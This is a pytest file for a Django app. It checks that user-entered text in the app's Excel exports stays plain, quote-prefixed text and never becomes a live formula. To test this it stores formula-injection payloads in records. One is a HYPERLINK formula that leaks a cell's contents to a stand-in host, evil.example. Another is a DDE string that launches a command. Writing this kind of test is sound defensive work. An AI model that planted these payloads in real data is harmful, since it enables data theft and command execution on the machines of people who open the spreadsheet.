"""Issue 15 item 7: text typed by a user is written as text in every export — never as a live formula — and reads
back unchanged (the whole-campaign workbook still round-trips). Each export is generated as a user gets it:
through HTTP, or the background job behind the button."""

import re
from io import BytesIO
from pathlib import Path

import pytest
from django.contrib.auth import get_user_model
from openpyxl import load_workbook

from sangtao.coverage.models import Export
from sangtao.exchange.campaign_excel import import_campaign
from sangtao.orgs.models import Organization, Person
from sangtao.registrations.models import Registration
from tests.exchange.test_campaign_excel import build

pytestmark = pytest.mark.django_db

EVIL_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"y")'
EVIL_ORG = "=1+2"
EVIL_PERSON = "@SUM(1,2)"
EVIL_NOVELTY = "+cmd|' /C calc'!A0"


@pytest.fixture
def poisoned(demo):
    campaign = build(demo)
    Registration.objects.filter(title="Hóa đơn điện tử").update(title=EVIL_TITLE, novelty=EVIL_NOVELTY)
    Organization.objects.filter(code="DUK-CTN").update(name=EVIL_ORG)
    Person.objects.filter(code="DV-0020").update(full_name=EVIL_PERSON)
    return campaign


def cells(data: bytes):
    wb = load_workbook(BytesIO(data))
    return [c for ws in wb.worksheets for line in ws.iter_rows() for c in line if c.value is not None]


def assert_text_only(data: bytes, *expected):
    found = cells(data)
    formulas = [(c.parent.title, c.coordinate, c.value) for c in found if c.data_type == "f"]
    assert formulas == []
    values = {c.value for c in found}
    for text in expected:
        assert text in values or any(text in str(v) for v in values), text
    for c in found:
        if isinstance(c.value, str) and c.value in (EVIL_TITLE, EVIL_ORG, EVIL_PERSON, EVIL_NOVELTY):
            assert c.quotePrefix  # a spreadsheet program also keeps it text when the cell is edited


def test_registration_list_export(poisoned, login):
    r = login("duk.canbo").get("/dot/DK-2023/dang-ky/xuat-excel/")
    assert r.status_code == 200
    assert_text_only(r.content, EVIL_TITLE, EVIL_ORG, EVIL_PERSON)


def test_whole_campaign_export_and_its_round_trip(poisoned, login):
    r = login("btctu.quantri").get("/dot/DK-2023/xuat-ca-dot/")
    assert r.status_code == 200
    assert_text_only(r.content, EVIL_TITLE, EVIL_ORG, EVIL_PERSON, EVIL_NOVELTY)

    admin = get_user_model().objects.get(username="btctu.quantri")
    summary = import_campaign(r.content, user=admin)  # the same text read back: nothing differs, nothing is new
    assert summary["registrations_unchanged"] == 3 and summary["registrations_created"] == 0
    assert summary["orgs_updated"] == 0 and summary["people_updated"] == 0
    assert Registration.objects.filter(title=EVIL_TITLE, novelty=EVIL_NOVELTY).count() == 1


@pytest.mark.parametrize("kind", ["year_end", "coverage"])
def test_year_end_and_coverage_workbooks(poisoned, login, demo, kind, django_capture_on_commit_callbacks):
    client = login("duk.canbo")
    with django_capture_on_commit_callbacks(execute=True):
        r = client.post(f"/dot/DK-2023/tong-hop/{demo['LD-DUK'].pk}/chay/{kind}/")
    job = Export.objects.get()
    assert r.status_code == 302 and job.status == Export.Status.DONE, job.error
    data = client.get(f"/viec-chay-nen/{job.pk}/tai/").getvalue()
    assert_text_only(data, EVIL_TITLE, EVIL_ORG, EVIL_PERSON)


def test_tree_export(poisoned, login, demo):
    r = login("btctu.quantri").get(f"/to-chuc/{demo['LD-DUK'].pk}/xuat-excel/")
    assert r.status_code == 200
    assert_text_only(r.content, EVIL_ORG, EVIL_PERSON)


def test_every_workbook_is_built_by_the_shared_helper():
    """A new export cannot forget: openpyxl's Workbook is created, and workbooks saved, only in common/xlsx.py."""
    root = Path(__file__).resolve().parents[2] / "sangtao"
    offenders = []
    for path in root.rglob("*.py"):
        if path == root / "common" / "xlsx.py":
            continue
        source = path.read_text(encoding="utf-8")
        if re.search(r"(?<![A-Za-z])Workbook\(|WriteOnlyCell|\bwb\.save\(", source):
            offenders.append(str(path.relative_to(root)))
    assert offenders == []
